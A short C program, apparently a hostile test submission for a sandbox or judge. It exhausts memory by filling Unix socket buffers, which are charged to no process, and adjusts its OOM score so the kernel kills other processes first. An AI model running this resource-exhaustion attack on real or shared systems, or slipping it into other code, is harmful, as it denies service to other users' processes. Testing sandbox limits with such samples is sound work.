/* A submission that fills socket buffers, which are memory of its box and of no process, and that takes care that the
 * kernel prefers to kill any other process of the box. */

#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
    static char page[4096];
    int pair[2], score = open("/proc/self/oom_score_adj", O_WRONLY);
    if (write(score, "0", 1) != 1) return 1;
    while (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair) == 0)
        for (int i = 0; i < 2; i++) while (write(pair[i], page, sizeof page) > 0) {}
    for (;;) pause();
}
